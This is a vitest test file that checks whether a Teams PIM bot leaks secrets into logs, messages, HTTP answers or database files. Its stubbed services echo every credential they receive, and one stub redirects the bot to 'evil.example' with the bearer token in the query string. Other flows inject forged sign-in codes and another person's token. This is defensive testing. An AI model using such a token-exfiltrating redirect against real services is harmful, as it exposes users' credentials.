import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { linksOf, newCard, sendsInvoke, typesAndSees } from '../flows/production-story.ts';
import type { FakePerson, ShownCard } from '../helpers/fake-teams.ts';
import { EntraBrowser } from '../helpers/stand-ins/entra-browser.ts';
import { connectionName } from '../helpers/stand-ins/production-stand-ins.ts';
import { storedRows } from '../helpers/stand-ins/stored-rows.ts';
import { startTappedProduction, type TapAnswer, type TappedCall, type TappedProduction } from '../helpers/stand-ins/wire-tap.ts';
import { SecretSearch } from './17-secret-search.ts';

// Guards: `createLog` (src/log.ts), which logs errors by what identifies them, and `withoutTokens` (src/without-tokens.ts) there and in
// the jobs' table; `tokenNotRepeated` (src/pim/http/azure-pipeline.ts), which cuts the token that was sent out of what comes back; `answered` (src/bot/sign-in/token-service.ts),
// `entraError` (src/identity/entra-error.ts) and `deliveryOf` (src/bot/messenger.ts), which keep codes and no words; `keepForLater`
// (src/bot/deliver.ts), which keeps of a click the verb alone; `derivedSecrets` and `hashOf` (src/web/step-up-secrets.ts).
// The process of `npm start` logs everything there is to log. Whatever it was told or has sent comes back to it in errors.

let production: TappedProduction;
let alex: FakePerson;
let megan: FakePerson;
/** Besides those that the stand-ins know of. */
const secrets: string[] = [];

beforeAll(async () => {
  production = await startTappedProduction({ limits: false });
  [alex, megan] = [await production.person('Alex'), await production.person('Megan')];
});
afterAll(() => production[Symbol.asyncDispose]());

/** All that there is: what the stand-ins have given or were shown, what people and browsers have brought, and every credential that was sent. */
function search(): SecretSearch {
  const sent = production.sent.flatMap(({ headers }) => (headers.authorization ?? '').replace(/^Bearer /u, '')).filter((token) => token !== '');
  return new SecretSearch([...new Set([...production.canaries(), ...secrets, ...sent])]);
}

/** Says all that it was sent: in the body, in the code, in headers, plain and in base64. */
function echo(status: number) {
  return ({ headers, body, path }: TappedCall): TapAnswer => {
    const token = (headers.authorization ?? headers['x-identity-header'] ?? new URLSearchParams(body).get('client_assertion') ?? '').toString().replace(/^Bearer /u, '');
    const all = `${token} Authorization: ${headers.authorization} ${path} ${body}`;
    const base64 = Buffer.from(JSON.stringify({ access_token: { acrs: { essential: true, value: token } } })).toString('base64');
    return {
      status,
      headers: {
        'content-type': 'application/json', 'x-ms-request-id': token, 'request-id': token, 'x-echo': token, 'x-ms-correlation-request-id': token,
        'www-authenticate': `Bearer realm="${token}", error="insufficient_claims", claims="${base64}"`,
      },
      body: JSON.stringify({
        error: { code: token, message: all, innerError: { 'request-id': token } }, error_description: all, claims: base64, suberror: token,
        correlation_id: token, trace_id: token, message: all, echo: headers,
      }),
    };
  };
}

/** What the person hears, whatever it is, while these calls go wrong. */
async function hears(person: FakePerson, text: string, fits: (call: TappedCall) => boolean, answer: (call: TappedCall) => TapAnswer): Promise<void> {
  let times = 0;
  production.intercept((call) => {
    if (!fits(call)) return null;
    times += 1;
    return answer(call);
  });
  await person.types(text);
  await expect.poll(() => times).toBeGreaterThan(0);
  production.intercept(null);
}

const at = (host: string) => (call: TappedCall): boolean => call.host === host;

test('promise 17: sign-ins that succeed and sign-ins that fail', async () => {
  await typesAndSees(alex, 'roles', 'Website Contributor');
  await typesAndSees(alex, 'sign out', 'You are signed out');
  production.habits.withoutSso.add(alex.account.aadObjectId);
  await alex.types('roles');
  await alex.waitForSignInButton();
  const link = /https:\/\/token\.botframework\.com\/api\/oauth\/signin\?signin=\w+/u.exec(JSON.stringify(production.sent.findLast(({ body }) => body.includes('oauth/signin'))?.body))?.[0] ?? '';
  const code = await production.tokenService.signInAs(link, alex.account.aadObjectId);
  secrets.push(code, '135792468');
  await newCard(alex, () => sendsInvoke(alex, 'signin/verifyState', { state: '135792468' }), 'The sign-in did not work');
  await newCard(alex, () => sendsInvoke(alex, 'signin/verifyState', { state: code }), 'Website Contributor');

  // A token of somebody else, brought by an exchange and by clicks.
  const megans = await production.entra.ssoToken(megan.account.aadObjectId);
  await sendsInvoke(alex, 'signin/tokenExchange', { id: megans, connectionName, token: megans });
  await sendsInvoke(alex, 'signin/failure', { code: 'x', message: megans });
  const authentication = { id: megans, connectionName, token: megans };
  for (const verb of ['roles.show', 'approval.approve', 'none.of.ours']) {
    const data = { requestId: crypto.randomUUID(), version: 1, reason: 'x', authentication, token: megans };
    await sendsInvoke(alex, 'adaptiveCard/action', { action: { verb, data }, authentication });
    await alex.sends({ value: { verb, ...data } });
  }
  production.habits.withoutSso.clear();
  const guest = production.teams.person({ id: production.seed.people.find(({ userType }) => userType === 'Guest')?.id ?? '', name: 'Grady' });
  await sendsInvoke(guest, 'signin/tokenExchange', authentication);
  await sendsInvoke(guest, 'adaptiveCard/action', { action: { verb: 'roles.show' }, authentication });
});

test('promise 17: services that fail and repeat what they were sent', async () => {
  for (const status of [400, 401, 403, 500]) {
    for (const host of ['token.botframework.com', 'login.microsoftonline.com', 'management.azure.com', 'graph.microsoft.com', 'smba.trafficmanager.net']) {
      production.tokenService.forget(alex.account.mri);
      production.intercept((call) => call.host === host ? echo(status)(call) : null);
      for (const text of ['roles', 'approvals', 'digest now']) await alex.types(text);
    }
  }
  production.intercept(null);
  await typesAndSees(alex, 'roles', 'Website Contributor');
  await hears(alex, 'roles', at('management.azure.com'), ({ headers }) => ({ status: 307, headers: { location: `https://evil.example/?${headers.authorization?.slice(7)}` } }));
  await hears(alex, 'roles', at('management.azure.com'), (call) => ({ ...echo(200)(call), body: `<html>${JSON.stringify(call)}` }));
  await hears(alex, 'roles', at('management.azure.com'), (call) => ({ ...echo(200)(call), body: JSON.stringify({ value: [{ [call.headers.authorization ?? '']: call.headers.authorization, id: call.headers.authorization }] }) }));
  for (const fault of ['down', 'notJson', 'redirects', 'huge', 429, 500] as const) {
    await typesAndSees(alex, 'sign out', 'You are signed out');
    production.entra.fault = fault;
    await alex.types('roles');
    production.entra.fault = 'none';
  }
  production.entra.consent = false;
  await typesAndSees(alex, 'roles', (card) => linksOf(card).some((link) => link.includes('/adminconsent')));
  production.entra.consent = true;
});

/** A form for this role, filled in and sent; PIM's answer to the PUT is this. */
async function submits(role: string, answer: ((call: TappedCall) => TapAnswer) | null): Promise<ShownCard> {
  production.intercept(null);
  const form = await typesAndSees(alex, `activate ${role}`, (card) => card.verbs.includes('activation.submit'));
  production.intercept((call) => answer !== null && call.method === 'PUT' && call.host === 'management.azure.com' ? answer(call) : null);
  await alex.clicks(form, 'activation.submit', { minutes: '30', justification: 'the deployment hangs', ticketNumber: '1', ticketSystem: 'x' });
  production.intercept(null);
  return alex.card(form.activityId);
}

test('promise 17: requests that PIM refuses or loses while it repeats them, and messages that Teams does not take', async () => {
  for (const status of [400, 401, 403, 409, 500, 503]) await submits('Website Contributor on rg-web', echo(status));
  production.intercept((call) => call.host === 'smba.trafficmanager.net' && call.body.includes('AdaptiveCard') ? echo(403)(call) : null);
  await alex.types('help');
  await submits('Contributor on rg-app', null);
  const request = await megan.waitForCard((card) => card.verbs.includes('approval.approve'));
  for (const status of [500, 403, 401]) {
    production.intercept((call) => call.method === 'PATCH' ? echo(status)(call) : null);
    await megan.clicks(request, 'approval.approve', { reason: 'go on' });
  }
  production.intercept((call) => call.host === 'smba.trafficmanager.net' && call.method !== 'POST' ? echo(403)(call) : null);
  await megan.clicks(request, 'approval.deny', { reason: 'not now' });
  await alex.waitForText(': Denied');
  production.intercept(null);
});

/** A browser that begins a stronger sign-in, and brings this back from Entra. */
async function stepsUp(card: ShownCard, comesBack: (browser: EntraBrowser, location: string) => Promise<URL | null>): Promise<number> {
  const page = new URL(linksOf(card).find((link) => link.includes('/step-up/')) ?? '').pathname;
  const begun = await fetch(`${production.frontUrl}${page}`, { method: 'POST', redirect: 'manual', headers: { 'sec-fetch-site': 'same-origin', 'content-type': 'application/x-www-form-urlencoded' }, body: '' });
  const [location, cookie] = [new URL(begun.headers.get('location') ?? ''), /=([^;]+)/u.exec(begun.headers.get('set-cookie') ?? '')?.[1] ?? ''];
  const { state = '', nonce = '' } = Object.fromEntries(location.searchParams);
  secrets.push(cookie, state, nonce);
  const { origin } = new URL(production.entra.origin);
  const back = await comesBack(new EntraBrowser(production.tls.caPem), `${origin}${location.pathname}${location.search}`);
  const answer = await fetch(`${production.frontUrl}/step-up/callback${back?.search ?? `?state=${state}&code=forged-code-of-nobody`}`, { headers: { cookie: `__Host-pim-step-up=${cookie}` } });
  return answer.status;
}

test('promise 17: stronger sign-ins that succeed, fail and are forged', async () => {
  const card = await submits('Key Vault Administrator', null);
  const { aadObjectId } = alex.account;
  expect(await stepsUp(card, () => Promise.resolve(null))).toBe(502);
  expect(await stepsUp(card, async (browser, url) => {
    await browser.open(url);
    return (await browser.press('deny')).location;
  })).toBe(200);
  const signsIn = (personId: string) => async (browser: EntraBrowser, url: string): Promise<URL | null> => {
    await browser.open(url);
    await browser.pick(personId);
    return (await browser.press('approve')).location;
  };
  expect(await stepsUp(card, signsIn(megan.account.aadObjectId))).toBe(403);
  production.intercept((call) => call.host === 'login.microsoftonline.com' ? echo(400)(call) : null);
  expect(await stepsUp(card, signsIn(aadObjectId))).toBe(502);
  production.intercept((call) => call.method === 'PUT' ? echo(500)(call) : null);
  expect(await stepsUp(card, signsIn(aadObjectId))).toBe(200);
  production.intercept(null);
});

test('promise 17: nothing of any secret is in a log, in a message, in an answer, in a table or in a file of the database', async () => {
  // A click while nobody is signed in is kept for after the sign-in, which never comes.
  const token = await production.entra.ssoToken(alex.account.aadObjectId);
  production.tokenService.forget(alex.account.mri);
  production.habits.withoutSso.add(alex.account.aadObjectId);
  await alex.sends({ value: { verb: 'roles.show', authentication: { id: '1', connectionName: 'another', token }, token } });
  await alex.waitForSignInButton();
  // Jobs that were begun come to their end, and what is left of them is stored.
  await new Promise((resolve) => { setTimeout(resolve, 3_000); });
  expect(await production.bot.stop()).toBe(0);
  const secret = search();
  expect(secret.size).toBeGreaterThan(1_000);
  expect(secret.in(JSON.stringify(production.canaries()))).not.toBeNull();

  const leaks = (texts: readonly string[]): readonly string[] => texts.filter((text) => secret.in(text) !== null).map((text) => text.slice(0, 400));
  expect(leaks(production.log().split('\n'))).toEqual([]);
  const messages = production.sent.filter(({ host }) => host === 'smba.trafficmanager.net').map(({ path, body }) => `${path} ${body}`);
  expect(messages.length).toBeGreaterThan(20);
  expect(leaks(messages)).toEqual([]);
  // The one answer that gives the browser its cookie, and its way to Entra, is made of secrets.
  const answers = production.answered.filter(({ headers }) => !String(headers?.['location']).startsWith('https://login.microsoftonline.com/')).map((answer) => JSON.stringify(answer));
  expect(answers.length).toBeGreaterThan(50);
  expect(leaks(answers)).toEqual([]);

  const rows = await storedRows(production.databaseFolder);
  expect(rows.get('public.interrupted_turns')).toHaveLength(1);
  expect(rows.get('public.audit_log')?.length).toBeGreaterThan(10);
  expect(rows.get('pgboss.job')?.length).toBeGreaterThan(0);
  expect([...rows].flatMap(([name, all]) => leaks(all.map((row) => `${name}: ${row}`)))).toEqual([]);

  const files = readdirSync(production.databaseFolder, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile());
  expect(files.length).toBeGreaterThan(100);
  expect(files.filter((file) => secret.in(readFileSync(path.join(file.parentPath, file.name), 'latin1')) !== null)).toEqual([]);
});
